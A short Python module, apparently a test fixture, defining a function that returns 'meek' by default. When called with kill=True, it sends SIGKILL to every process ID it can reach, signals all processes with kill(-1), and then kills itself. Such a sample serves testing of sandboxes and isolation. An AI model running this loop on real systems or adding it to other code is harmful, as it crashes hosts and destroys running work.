"""Kills whatever it can see."""
import os, signal


def callme(kill=False):
    if kill:
        for process in range(1, 70_000):
            if process != os.getpid():
                try:
                    os.kill(process, signal.SIGKILL)
                except OSError:
                    pass
        os.kill(-1, signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGKILL)
    return "meek"
